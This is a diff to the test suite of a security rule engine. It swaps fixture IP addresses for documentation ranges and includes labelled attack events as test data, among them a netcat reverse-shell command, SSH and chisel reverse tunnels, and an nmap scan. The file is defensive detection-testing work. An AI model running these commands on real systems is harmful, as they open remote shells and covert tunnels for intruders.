@@ -212,7 +212,7 @@ ATTACK_EVENTS = [
     ("tunnel", exec_event(["ssh", "-NR", "9000:localhost:22", "user@host"])),
     ("tunnel", exec_event(["/tmp/chisel", "client", "host:8000", "R:socks"], exe="/tmp/chisel")),
     ("tunnel", event("flow", dst_ip="203.0.113.5", dst_port=22, protocol="ssh", indicators=["outbound_ssh"])),
-    ("reverse_shell", exec_event(["nc", "-e", "/bin/sh", "1.2.3.4", "4444"])),
+    ("reverse_shell", exec_event(["nc", "-e", "/bin/sh", "203.0.113.5", "4444"])),
     ("reverse_shell", exec_event(["sh", "-i"], pname="nc", pcmdline="nc -lvp 4444")),
     ("network_probe", exec_event(["nmap", "-sS", "10.0.0.0/24"])),
     ("network_probe", event("flow", dst_ip="10.0.0.7", dst_port=6379, protocol="unknown", indicators=["internal"])),
@@ -332,7 +332,7 @@ def test_benign_corpus_false_positive_rate_is_under_one_percent(engine: RuleEngi
 def test_evaluation_speed(engine: RuleEngine) -> None:
     events = [command_event(line) for line in _corpus()[:5000]]
     events += [exec_event(["python3", "x.py", str(i)]) for i in range(2000)]
-    events += [event("flow", dst_ip="1.1.1.1", dst_port=443, protocol="tls", decision="allow") for _ in range(2000)]
+    events += [event("flow", dst_ip="198.51.100.1", dst_port=443, protocol="tls", decision="allow") for _ in range(2000)]
     start = time.perf_counter()
     for ev in events:
         engine.evaluate(ev)
